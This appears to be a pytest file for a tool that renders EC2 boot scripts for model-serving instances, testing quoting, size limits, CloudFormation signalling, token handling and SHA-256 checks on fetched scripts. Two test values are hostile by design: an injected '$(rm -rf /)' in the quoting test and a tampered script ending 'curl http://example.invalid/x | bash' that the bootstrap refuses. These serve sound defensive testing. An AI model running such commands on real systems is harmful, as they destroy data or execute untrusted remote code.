"""User data: real bash files, a generated preamble, deterministic, small, and behaving right.

The behaviour tests run the boot script's functions in bash against a loopback HTTP
server standing in for the model server and the CloudFormation wait-condition handle,
with a fake ``aws`` command that records its arguments.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shlex
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from rigs.catalog.model import load_catalog
from rigs.contract import HF_TOKEN_SECRET
from rigs.deploy.model_options import ModelRequest, serve
from rigs.userdata import (BOOTSTRAP, SCRIPT_DIR, SHEBANG, USER_DATA_LIMIT_BYTES, BootSettings, UserDataError,
                           boot_scripts, boot_scripts_sha256, environment, preamble, render, script_files,
                           stack_settings)
from tests.contract.templates import WAIT_HANDLE_URL
from tests.contract.templates import boot_environment

PROJECT_DIR = Path(__file__).resolve().parents[3]
SHELLCHECK = PROJECT_DIR / ".venv" / "bin" / "shellcheck"
CATALOG = load_catalog()
NEURON_VLLM_RIGS = [serve(CATALOG.get(rig), CATALOG, ModelRequest(model=model, hf_token_parameter="/a/hf-token")).rig
                    for rig, model in (("inf2", "meta-llama/Llama-3.1-8B-Instruct"), ("trn1", "Qwen/Qwen3-32B"))]
"""AWS's vLLM Neuron image on inf2.8xlarge, and on trn1.32xlarge with its 16 devices (the longest user data)."""
RIGS = CATALOG.ec2_rigs() + [rig.with_variant(v) for rig in CATALOG.ec2_rigs() for v in rig.variants] + \
    NEURON_VLLM_RIGS


def boot(rig, **overrides) -> BootSettings:
    values = dict(region=rig.regions[0], stack_name=rig.stack_name, signal_resource="RigGroup97D30988",
                  wait_handle_url=WAIT_HANDLE_URL, log_group=f"/aws-inference/{rig.name}", image=rig.image.pull_reference(),
                  ready_timeout_seconds=rig.ready_timeout_minutes * 60,
                  registry="123456789012.dkr.ecr.us-east-1.amazonaws.com" if rig.name == "g5g" else "",
                  boot_scripts_url=f"s3://cdk-hnb659fds-assets-123456789012-us-east-2/{'0' * 64}.sh",
                  boot_scripts_sha256=boot_scripts_sha256(rig))
    values.update(overrides)
    return BootSettings(**values)


def shellcheck(path: Path) -> subprocess.CompletedProcess:
    return subprocess.run([str(SHELLCHECK), "--severity=style", str(path)], capture_output=True, text=True)


@pytest.mark.parametrize("path", sorted(SCRIPT_DIR.glob("*.sh")), ids=lambda p: p.name)
def test_every_bash_file_is_shellcheck_clean_and_strict(path):
    text = path.read_text()
    assert text.startswith("#!/usr/bin/env bash\n")
    assert "\nset -euo pipefail\n" in text
    result = shellcheck(path)
    assert result.returncode == 0, result.stdout


@pytest.mark.parametrize("rig", RIGS, ids=lambda r: f"{r.name}-{r.image.tag}")
def test_user_data_and_boot_scripts_are_shellcheck_clean_and_the_user_data_within_4_kb(rig, tmp_path):
    script = render(rig, boot(rig))
    assert len(script.encode()) <= USER_DATA_LIMIT_BYTES == 4096
    for name, text in (("user-data.sh", script), ("boot-scripts.sh", boot_scripts(rig))):
        path = tmp_path / name
        path.write_text(text)
        result = shellcheck(path)
        assert result.returncode == 0, result.stdout


@pytest.mark.parametrize("rig", RIGS, ids=lambda r: f"{r.name}-{r.image.tag}")
def test_rendering_is_deterministic_and_made_of_the_real_files(rig):
    first, second = render(rig, boot(rig)), render(rig, boot(rig))
    assert first == second and boot_scripts(rig) == boot_scripts(rig)
    assert first.startswith(SHEBANG + "\n") and boot_scripts(rig).startswith(SHEBANG + "\n")
    assert BOOTSTRAP.read_text().split("\n", 1)[1] in first, "bootstrap.sh is not in the user data verbatim"
    for path in script_files(rig):
        body = path.read_text().split("\n", 1)[1]
        assert body in boot_scripts(rig), f"{path.name} is not in the boot scripts verbatim"
        assert body not in first, f"{path.name} is in the user data"
    assert boot_scripts(rig).rstrip().endswith("main")
    assert boot_scripts_sha256(rig) == hashlib.sha256(boot_scripts(rig).encode()).hexdigest()


def test_the_user_data_carries_the_stacks_settings_and_the_boot_scripts_the_catalogs():
    rig = NEURON_VLLM_RIGS[1]
    user_data, scripts = render(rig, boot(rig)), boot_scripts(rig)
    assert boot_environment(user_data) == stack_settings(rig, boot(rig))
    assert boot_environment(scripts)["RIG_SERVE_FLAGS"].split("\n") == list(rig.serve_flags)
    assert "RIG_NEURON_DEVICES" not in boot_environment(user_data)


def test_preamble_is_sorted_and_every_value_survives_bash_quoting():
    tricky = {"RIG_B": "it's $(rm -rf /) `x` \"q\" ; done", "RIG_A": "two\nlines", "RIG_C": "", "RIG_D": "a b\tc"}
    text = preamble(tricky)
    exports = [line.split("=", 1)[0] for line in text.splitlines() if line.startswith("export ")]
    assert exports == sorted(exports)
    assert boot_environment(text) == tricky


def test_environment_holds_catalog_values_and_only_the_secret_name():
    rig = CATALOG.get("g6")
    env = environment(rig, boot(rig))
    assert env["RIG_MODEL_ID"] == rig.model_id
    assert env["RIG_SERVE_FLAGS"].split("\n") == list(rig.serve_flags)
    assert env["RIG_HF_TOKEN_SECRET"] == HF_TOKEN_SECRET
    assert all(key.startswith("RIG_") for key in env)


def test_a_flag_spanning_lines_is_refused():
    rig = CATALOG.get("g6").model_copy(update={"serve_flags": ("--chat-template", "a\nb")})
    with pytest.raises(UserDataError, match="spans lines"):
        render(rig, boot(rig))


@pytest.mark.parametrize(("rig", "port", "container", "completion_tokens", "scripts"), [
    (CATALOG.get("g6"), "8000", "vllm", "false", ["vllm.sh"]),
    (CATALOG.get("inf2"), "8080", "gemma4-neuron", "true", ["neuron_devices.sh", "neuronx.sh"]),
    (NEURON_VLLM_RIGS[0], "8000", "vllm-neuron", "true", ["neuron_devices.sh", "neuron_vllm.sh"])],
    ids=lambda v: getattr(v, "runtime", None))
def test_each_runtime_boots_its_own_script_container_and_port(rig, port, container, completion_tokens, scripts):
    env = environment(rig, boot(rig))
    assert (env["RIG_CONTAINER_PORT"], env["RIG_CONTAINER"], env["RIG_REQUIRE_COMPLETION_TOKENS"]) == \
        (port, container, completion_tokens)
    assert [p.name for p in script_files(rig)] == ["common.sh", "byte_source.sh", *scripts]


@pytest.mark.parametrize("runtime", ["sagemaker-vllm", "tgi"])
def test_a_runtime_no_ec2_rig_boots_has_no_user_data(runtime):
    rig = CATALOG.get("g6").model_copy(update={"runtime": runtime})
    with pytest.raises(UserDataError, match=f"rig g6: no user data for runtime '{runtime}'"):
        render(rig, boot(rig))


def test_oversized_user_data_is_refused_in_one_line_with_the_fix():
    rig = CATALOG.get("g6")
    with pytest.raises(UserDataError, match=r"^rig g6: its user data would be 5,\d{3} bytes, over the 4,096 this "
                                            r"project allows \(EC2 takes 16,384\): what grew belongs in the boot "
                                            r"scripts"):
        render(rig, boot(rig, wait_handle_url="x" * 3000))


# --- behaviour of the boot functions ---------------------------------------------------


class FakeEndpoints(BaseHTTPRequestHandler):
    """``POST /v1/chat/completions`` answers the queued reply; ``PUT /handle`` records a signal."""

    reply: dict = {}
    status = 200
    signals: list = []

    def do_POST(self):  # noqa: N802 (http.server naming)
        self.rfile.read(int(self.headers["Content-Length"]))
        body = json.dumps(self.reply).encode()
        self.send_response(self.status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_PUT(self):  # noqa: N802
        type(self).signals.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def server():
    FakeEndpoints.signals = []
    FakeEndpoints.status = 200
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), FakeEndpoints)
    # shutdown() waits for the loop's next look at its flag: every 0.5 s by default, in each test's teardown
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
    thread.start()
    yield httpd
    httpd.shutdown()


def run_boot_functions(tmp_path: Path, port: int, commands: str, runtime: str = "neuronx",
                       aws: str = "") -> tuple[int, str, str]:
    """Source common.sh with a test environment and run ``commands``; returns (rc, stdout, aws calls). The fake
    ``aws`` records its arguments, then runs ``aws`` (bash)."""
    fakebin = tmp_path / "bin"
    fakebin.mkdir(exist_ok=True)
    aws_log = tmp_path / "aws-calls"
    (fakebin / "aws").write_text(f'#!/usr/bin/env bash\necho "$*" >> {aws_log}\n{aws}\n')
    (fakebin / "aws").chmod(0o755)
    state = tmp_path / "state"
    state.mkdir(exist_ok=True)
    env_vars = {
        "RIG_NAME": "inf2", "RIG_STACK": "InferenceInf2", "RIG_SIGNAL_RESOURCE": "RigGroup97D30988",
        "RIG_WAIT_HANDLE": f"http://127.0.0.1:{port}/handle", "RIG_PORT": str(port), "RIG_MODEL_ID": "gemma-4-E2B-it",
        "RIG_REQUIRE_COMPLETION_TOKENS": "true" if runtime == "neuronx" else "false", "RIG_LOG_GROUP": "/aws-inference/x",
        "RIG_STATE_DIR": str(state), "RIG_REGION": "us-east-2",
    }
    script = "\n".join([
        "set -euo pipefail",
        preamble(env_vars),
        f"source {SCRIPT_DIR / 'common.sh'}",
        "INSTANCE_ID=i-0123456789abcdef0",
        'printf \'{"model": "m", "messages": []}\' > "$STATE_DIR/probe-request.json"',
        commands,
    ])
    result = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=60,
                            env={"PATH": f"{fakebin}:{os.environ['PATH']}", "HOME": str(tmp_path)})
    calls = aws_log.read_text() if aws_log.exists() else ""
    return result.returncode, result.stdout + result.stderr, calls


PROBE = 'if chat_probe; then echo "PROBE PASS"; else echo "PROBE FAIL: $PROBE_ERROR"; fi'


def reply(text: str | None, tokens: int) -> dict:
    return {"choices": [{"message": {"role": "assistant", "content": text}, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 17, "completion_tokens": tokens}}


def test_probe_passes_on_a_real_completion(server, tmp_path):
    FakeEndpoints.reply = reply("ok", 2)
    rc, out, _ = run_boot_functions(tmp_path, server.server_port, PROBE)
    assert rc == 0 and "PROBE PASS" in out, out


def test_probe_rejects_the_neuron_zero_token_reply(server, tmp_path):
    FakeEndpoints.reply = reply("", 0)
    _, out, _ = run_boot_functions(tmp_path, server.server_port, PROBE)
    assert "PROBE FAIL: 200 OK with zero completion tokens" in out, out


def test_probe_rejects_empty_text_even_with_tokens(server, tmp_path):
    FakeEndpoints.reply = reply("   ", 3)
    _, out, _ = run_boot_functions(tmp_path, server.server_port, PROBE, runtime="vllm")
    assert "PROBE FAIL: 200 OK with empty text (3 completion tokens)" in out, out


def test_probe_reports_a_loading_server(server, tmp_path):
    FakeEndpoints.status, FakeEndpoints.reply = 503, {"status": "loading"}
    _, out, _ = run_boot_functions(tmp_path, server.server_port, PROBE)
    assert "PROBE FAIL: HTTP 503" in out and "loading" in out, out


def test_failure_reaches_cloudformation_with_its_reason(server, tmp_path):
    rc, out, calls = run_boot_functions(tmp_path, server.server_port, 'fail "could not pull the image: denied"')
    assert rc == 1
    [signal] = FakeEndpoints.signals
    assert signal["Status"] == "FAILURE"
    assert signal["Reason"] == "inf2: could not pull the image: denied"
    assert signal["UniqueId"] == "i-0123456789abcdef0"
    assert ("cloudformation signal-resource --stack-name InferenceInf2 --logical-resource-id RigGroup97D30988 "
            "--unique-id i-0123456789abcdef0 --status FAILURE") in calls


def test_an_unexpected_error_still_signals_failure_naming_the_command(server, tmp_path):
    commands = "install_traps\nstep() { ls /no/such/path >/dev/null; }\nstep\necho unreachable"
    rc, out, calls = run_boot_functions(tmp_path, server.server_port, commands)
    assert rc != 0 and "unreachable" not in out
    [signal] = FakeEndpoints.signals
    assert signal["Status"] == "FAILURE" and "ls /no/such/path" in signal["Reason"], signal
    assert "--status FAILURE" in calls


def test_success_signals_both_the_wait_condition_and_the_group(server, tmp_path):
    rc, _, calls = run_boot_functions(tmp_path, server.server_port,
                                      'install_traps\nsignal_cloudformation SUCCESS "inf2 answered"')
    assert rc == 0
    assert [s["Status"] for s in FakeEndpoints.signals] == ["SUCCESS"]
    assert "--status SUCCESS" in calls and "--status FAILURE" not in calls


RUNTIME_FUNCTIONS = "main() {{ :; }}\nsource {path}\nRIG_IMAGE=vllm/vllm-openai:v0.30.0\nreport_rig"
"""Source a runtime file with ``main`` a no-op (its last line calls it), then write the rig report."""


@pytest.mark.parametrize("gpus, line", [
    ("NVIDIA L4, 570.133.20", "accelerator=NVIDIA L4; count=1; driver=570.133.20"),
    ("NVIDIA A10G, 550.1\nNVIDIA A10G, 550.1", "accelerator=NVIDIA A10G; count=2; driver=550.1"),
    (None, "accelerator=unknown; count=0; driver=unknown"),
])
def test_the_rig_report_names_the_gpu_its_driver_and_the_pulled_image(server, tmp_path, gpus, line):
    """The line agent/reach/provenance.py reads back from the user-data log."""
    fakebin = tmp_path / "bin"
    fakebin.mkdir()
    smi = f"printf '%s\\n' {shlex.quote(gpus)}" if gpus else "exit 9"
    (fakebin / "nvidia-smi").write_text(f"#!/usr/bin/env bash\n{smi}\n")
    (fakebin / "docker").write_text('#!/usr/bin/env bash\n[[ "$*" == *"image inspect"*"vllm/vllm-openai:v0.30.0" ]] '
                                    '&& echo "vllm/vllm-openai@sha256:8a69,other/mirror@sha256:8a69"\n')
    for tool in ("nvidia-smi", "docker"):
        (fakebin / tool).chmod(0o755)
    rc, out, _ = run_boot_functions(tmp_path, server.server_port,
                                    RUNTIME_FUNCTIONS.format(path=SCRIPT_DIR / "vllm.sh"), runtime="vllm")
    assert rc == 0, out
    assert re.search(rf"^\S+Z rig report: {re.escape(line)}; image=vllm/vllm-openai@sha256:8a69$", out, re.M), out


def test_a_neuron_rig_reports_its_devices_and_an_image_docker_does_not_know(server, tmp_path):
    fakebin = tmp_path / "bin"
    fakebin.mkdir()
    (fakebin / "docker").write_text("#!/usr/bin/env bash\nexit 1\n")
    (fakebin / "docker").chmod(0o755)
    commands = (f"RIG_NEURON_DEVICES=/dev/neuron0\nsource {SCRIPT_DIR / 'neuron_devices.sh'}\n"
                + RUNTIME_FUNCTIONS.format(path=SCRIPT_DIR / "neuronx.sh"))
    rc, out, _ = run_boot_functions(tmp_path, server.server_port, commands)
    assert rc == 0, out
    assert re.search(r"rig report: accelerator=AWS Neuron device; count=1; driver=\S+; image=unknown$", out, re.M), out


def test_the_neuron_vllm_server_gets_every_device_its_flags_and_a_compile_folder_per_model(server, tmp_path):
    """AWS's vLLM Neuron image on trn1.32xlarge: docker run as the boot script issues it (a fake docker records it)."""
    rig = NEURON_VLLM_RIGS[1]
    env = environment(rig, boot(rig))
    fakebin = tmp_path / "bin"
    fakebin.mkdir()
    (fakebin / "docker").write_text(f'#!/usr/bin/env bash\nprintf "%s\\n" "$@" >> {tmp_path / "docker-args"}\n')
    (fakebin / "docker").chmod(0o755)
    names = ("RIG_NEURON_DEVICES", "RIG_SERVE_FLAGS", "RIG_IMAGE", "RIG_MODEL_ID", "RIG_CONTAINER",
             "RIG_CONTAINER_PORT")
    commands = "\n".join([f"{k}={shlex.quote(env[k])}" for k in names] + [
        f"source {SCRIPT_DIR / 'neuron_devices.sh'}", f"main() {{ :; }}\nsource {SCRIPT_DIR / 'neuron_vllm.sh'}",
        'mkdir() { echo "mkdir $*"; }', "start_server"])
    rc, out, _ = run_boot_functions(tmp_path, server.server_port, commands)
    assert rc == 0, out
    run = (tmp_path / "docker-args").read_text().split("\n")
    run = run[run.index("-d") - 1:]  # the server; the download before it: tests/rigs/userdata/test_neuron_vllm_boot.py
    assert [a for a in run if a.startswith("--device=")] == [f"--device=/dev/neuron{i}" for i in range(16)]
    [artifacts] = [a for a in run if a.startswith("NEURON_COMPILED_ARTIFACTS=")]
    folder = artifacts.split("=/n/compiled/", 1)[1]
    assert len(folder) == 16 and f"mkdir -p /var/lib/neuron/compiled/{folder}" in out
    assert "/var/lib/neuron:/n" in run and f"127.0.0.1:{server.server_port}:8000" in run
    serve_args = run[run.index(rig.image.pull_reference()) + 1:-1]
    assert serve_args == ["vllm", "serve", "/n/models/Qwen/Qwen3-32B", "--served-model-name", "Qwen/Qwen3-32B",
                          *rig.serve_flags]
    assert serve_args[serve_args.index("--tensor-parallel-size") + 1] == "8"


def test_the_neuron_vllm_boot_report_copies_the_lines_that_time_the_compile(server, tmp_path):
    fakebin = tmp_path / "bin"
    fakebin.mkdir()
    lines = ["2026-12-02T06:00:10.000000001Z INFO 12-02 06:00:10 [loader.py:191] Unable to find precompiled "
             "artifacts from /compiled/0123456789abcdef. Recompiling...",
             "2026-12-02T06:00:11.5Z INFO Saving the neuron_config to /compiled/0123456789abcdef",
             "2026-12-02T06:12:40.25Z INFO Sharding weights on load..."]
    (fakebin / "docker").write_text("#!/usr/bin/env bash\n[[ \"$1 $2\" == \"logs -t\" ]] && printf '%s\\n' "
                                    + " ".join(shlex.quote(line) for line in lines) + "\n")
    (fakebin / "docker").chmod(0o755)
    commands = (f"main() {{ :; }}\nsource {SCRIPT_DIR / 'neuron_vllm.sh'}\nRIG_CONTAINER=vllm-neuron\n"
                "STARTED=$((SECONDS - 900))\nreport_engine")
    rc, out, _ = run_boot_functions(tmp_path, server.server_port, commands)
    assert rc == 0, out
    reported = [line.split(" engine report: ", 1)[1] for line in out.splitlines() if " engine report: " in line]
    assert reported[:2] == [lines[0], lines[2]]
    assert re.fullmatch(r"neuron server: first good answer 90\d s after it started", reported[2]), reported


CANARY = "hf_canaryTOKEN0123456789abcdef"
TOKEN_COMMANDS = "RIG_HF_TOKEN_SECRET=''\nRIG_HF_TOKEN_PARAMETER=/aws-inference/hf-token\nfetch_hf_token\necho fetched"


def test_the_token_parameter_reaches_the_server_env_and_no_log(server, tmp_path):
    answer = f'[[ "$*" == "ssm get-parameter"* ]] && echo {CANARY}'
    rc, out, calls = run_boot_functions(tmp_path, server.server_port, TOKEN_COMMANDS, aws=answer)
    assert rc == 0 and "fetched" in out and CANARY not in out, out  # stdout is the user-data log
    assert "Hugging Face token read from SSM parameter /aws-inference/hf-token" in out
    assert ("ssm get-parameter --name /aws-inference/hf-token --with-decryption --query Parameter.Value "
            "--output text") in calls
    env_file = tmp_path / "state" / "server.env"
    assert env_file.read_text() == f"HF_TOKEN={CANARY}\n" and env_file.stat().st_mode & 0o777 == 0o600


def test_an_unreadable_token_parameter_fails_the_boot_naming_it(server, tmp_path):
    answer = 'echo "An error occurred (ParameterNotFound) ... ParameterNotFoundException" >&2; exit 254'
    rc, out, _ = run_boot_functions(tmp_path, server.server_port, TOKEN_COMMANDS, aws=answer)
    [signal] = FakeEndpoints.signals
    assert rc == 1 and "fetched" not in out and signal["Status"] == "FAILURE"
    assert signal["Reason"].startswith("inf2: could not read the Hugging Face token from SSM parameter "
                                       "/aws-inference/hf-token (ParameterNotFoundException)"), signal


def test_the_rig_report_carries_vllms_kv_cache_lines_once_it_serves(server, tmp_path):
    """vLLM's own lines (LMCache/LMCache issue #1739), copied as the engine report agent/reach/provenance.py reads."""
    fakebin = tmp_path / "bin"
    fakebin.mkdir()
    prefix = "(EngineCore_DP0 pid=1133552) INFO 10-03 16:22:17 "
    lines = [prefix + "[gpu_worker.py:298] Available KV cache memory: 6.51 GiB",
             prefix + "[kv_cache_utils.py:864] GPU KV cache size: 42,656 tokens",
             prefix + "[kv_cache_utils.py:868] Maximum concurrency for 32,768 tokens per request: 1.30x"]
    (fakebin / "docker").write_text("#!/usr/bin/env bash\n[[ \"$1\" == logs ]] && printf '%s\\n' "
                                    + " ".join(shlex.quote(line) for line in lines) + "\n")
    (fakebin / "docker").chmod(0o755)
    commands = f"main() {{ :; }}\nsource {SCRIPT_DIR / 'vllm.sh'}\nRIG_CONTAINER=vllm\nreport_engine"
    rc, out, _ = run_boot_functions(tmp_path, server.server_port, commands, runtime="vllm")
    assert rc == 0, out
    reported = [line.split(" engine report: ", 1)[1] for line in out.splitlines() if " engine report: " in line]
    assert reported == lines[1:], out


NO_KERNEL = """Traceback (most recent call last):
  File "<string>", line 2, in <module>
torch.AcceleratorError: CUDA error: no kernel image is available for execution on the device
CUDA kernel errors might be asynchronously reported at some other API call, so the stacktrace below might be incorrect.
For debugging consider passing CUDA_LAUNCH_BLOCKING=1
"""


def gpu_rig(tmp_path: Path, probe_output: str, probe_status: int) -> Path:
    """A T4G's nvidia-smi, and a docker whose one-CUDA-op probe prints ``probe_output``; every docker call logged."""
    fakebin = tmp_path / "bin"
    fakebin.mkdir()
    (tmp_path / "probe.out").write_text(probe_output)
    (fakebin / "nvidia-smi").write_text('#!/usr/bin/env bash\n[[ "$*" == *compute_cap* ]] && echo 7.5\n')
    (fakebin / "docker").write_text(
        f'#!/usr/bin/env bash\necho "$*" >> {tmp_path}/docker-calls\n'
        f'if [[ "$*" == *"--entrypoint python3"* ]]; then cat {tmp_path}/probe.out; exit {probe_status}; fi\n')
    for tool in ("nvidia-smi", "docker"):
        (fakebin / tool).chmod(0o755)
    return tmp_path / "docker-calls"


START = ("RIG_NAME=g5g\nRIG_IMAGE=123456789012.dkr.ecr.us-east-1.amazonaws.com/aws-inference/vllm-sm75:v1\n"
         "RIG_CONTAINER=vllm\nRIG_CONTAINER_PORT=8000\nRIG_SERVE_FLAGS=''\nmain() {{ :; }}\nsource {path}\nstart_server")


def test_an_image_without_the_gpus_kernels_fails_the_boot_in_one_line_before_vllm_starts(server, tmp_path):
    calls = gpu_rig(tmp_path, NO_KERNEL, 1)
    rc, out, _ = run_boot_functions(tmp_path, server.server_port, START.format(path=SCRIPT_DIR / "vllm.sh"),
                                    runtime="vllm")
    assert rc == 1
    [signal] = FakeEndpoints.signals
    reason = ("g5g: this image has no kernels for sm_75 (the GPU's compute capability 7.5): torch.AcceleratorError: "
              "CUDA error: no kernel image is available for execution on the device")
    assert signal["Status"] == "FAILURE" and signal["Reason"] == reason  # what the deploy's error shows
    assert f"FAILED: {reason.removeprefix('g5g: ')}" in out  # the boot report (the user-data log)
    assert "run -d" not in calls.read_text()  # the server container never started


def test_another_cuda_failure_is_named_too(server, tmp_path):
    gpu_rig(tmp_path, "RuntimeError: CUDA driver initialization failed, you might not have a CUDA gpu.\n", 1)
    rc, _, _ = run_boot_functions(tmp_path, server.server_port, START.format(path=SCRIPT_DIR / "vllm.sh"),
                                  runtime="vllm")
    assert rc == 1 and FakeEndpoints.signals[0]["Reason"] == (
        "g5g: a CUDA op in the image failed on the GPU before vLLM started: RuntimeError: CUDA driver "
        "initialization failed, you might not have a CUDA gpu.")


def test_a_gpu_op_that_runs_is_logged_and_the_server_starts(server, tmp_path):
    calls = gpu_rig(tmp_path, "torch 2.12.0 ran a CUDA op on NVIDIA T4G (sm_75): 2048\n", 0)
    rc, out, _ = run_boot_functions(tmp_path, server.server_port, START.format(path=SCRIPT_DIR / "vllm.sh"),
                                    runtime="vllm")
    assert rc == 0, out
    assert "GPU check: torch 2.12.0 ran a CUDA op on NVIDIA T4G (sm_75): 2048" in out
    probe, *rest = calls.read_text().splitlines()
    assert probe.startswith("run --rm --gpus all --entrypoint python3 123456789012.dkr.ecr.us-east-1.amazonaws.com/"
                            "aws-inference/vllm-sm75:v1 -c import torch")
    assert any(call.startswith("run -d --name vllm") for call in rest) and not FakeEndpoints.signals


def test_the_gpu_probe_is_one_real_cuda_op_in_python():
    """The probe's Python (vllm.sh GPU_PROBE) compiles, and asks the GPU for work: a tensor made on it and summed."""
    text = (SCRIPT_DIR / "vllm.sh").read_text()
    probe = re.search(r"^readonly GPU_PROBE='(.*?)'$", text, re.S | re.M).group(1)
    compile(probe, "GPU_PROBE", "exec")
    assert 'device="cuda"' in probe and ".sum()" in probe


# --- the bootstrap: fetch, check, run -------------------------------------------------------


def run_bootstrap(tmp_path: Path, port: int, served: str, expected: str, aws: str = "") -> tuple[int, str]:
    """The user data's bootstrap with a fake ``aws`` that copies ``served`` as the S3 object (or runs ``aws``, bash);
    the boot scripts the synth made are ``expected``. Returns (rc, stdout and stderr)."""
    rig = CATALOG.get("g6")
    (tmp_path / "object.sh").write_text(served)
    fakebin = tmp_path / "bin"
    fakebin.mkdir()
    copy = f'[[ "$1 $2" == "s3 cp" ]] && cp {tmp_path / "object.sh"} "${{@: -1}}"'
    (fakebin / "aws").write_text(f'#!/usr/bin/env bash\necho "$*" >> {tmp_path / "aws-calls"}\n{aws or copy}\n')
    (fakebin / "aws").chmod(0o755)
    settings = boot(rig, wait_handle_url=f"http://127.0.0.1:{port}/handle",
                    boot_scripts_sha256=hashlib.sha256(expected.encode()).hexdigest())
    script = (f"export RIG_STATE_DIR={tmp_path / 'state'} RIG_LOG_DIR={tmp_path / 'log'}\n"
              + render(rig, settings).split("\n", 1)[1])
    result = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=60,
                            env={"PATH": f"{fakebin}:{os.environ['PATH']}", "HOME": str(tmp_path)})
    return result.returncode, result.stdout + result.stderr


SCRIPTS = "#!/usr/bin/env bash\necho \"boot scripts ran for $RIG_NAME\"\n"


def test_boot_scripts_with_the_synthesized_hash_run_in_the_same_shell(server, tmp_path):
    rc, out = run_bootstrap(tmp_path, server.server_port, SCRIPTS, SCRIPTS)
    assert rc == 0 and "boot scripts ran for g6" in out, out
    digest = hashlib.sha256(SCRIPTS.encode()).hexdigest()
    assert f"boot scripts s3://cdk-hnb659fds-assets-123456789012-us-east-2/{'0' * 64}.sh: sha256 {digest} as " \
           "synthesized" in (tmp_path / "log" / "user-data.log").read_text()
    assert (tmp_path / "aws-calls").read_text().startswith("s3 cp --only-show-errors --region us-east-2 s3://")
    assert not FakeEndpoints.signals


def test_boot_scripts_that_changed_are_refused_in_one_line_and_never_run(server, tmp_path):
    tampered = SCRIPTS + "curl http://example.invalid/x | bash\n"
    rc, out = run_bootstrap(tmp_path, server.server_port, tampered, SCRIPTS)
    got, wanted = (hashlib.sha256(text.encode()).hexdigest() for text in (tampered, SCRIPTS))
    reason = (f"boot scripts s3://cdk-hnb659fds-assets-123456789012-us-east-2/{'0' * 64}.sh have sha256 {got}, "
              f"not {wanted} as synthesized: not running them")
    assert rc == 1 and "boot scripts ran" not in out
    assert f"FAILED: {reason}" in (tmp_path / "log" / "user-data.log").read_text()  # the boot report
    [signal] = FakeEndpoints.signals  # the deploy's failure reason
    assert signal["Status"] == "FAILURE" and signal["Reason"] == f"g6: {reason}"


def test_boot_scripts_that_cannot_be_fetched_fail_the_boot_naming_the_object(server, tmp_path):
    denied = ('echo \'fatal error: An error occurred (403) when calling the HeadObject operation: "Forbidden"\' >&2; '
              'exit 1')
    rc, out = run_bootstrap(tmp_path, server.server_port, SCRIPTS, SCRIPTS, aws=denied)
    assert rc == 1 and "boot scripts ran" not in out
    [signal] = FakeEndpoints.signals
    assert signal["Reason"] == (f"g6: could not fetch the boot scripts s3://cdk-hnb659fds-assets-123456789012-us-east-2/"
                                f"{'0' * 64}.sh: fatal error: An error occurred (403) when calling the HeadObject "
                                "operation: Forbidden ")
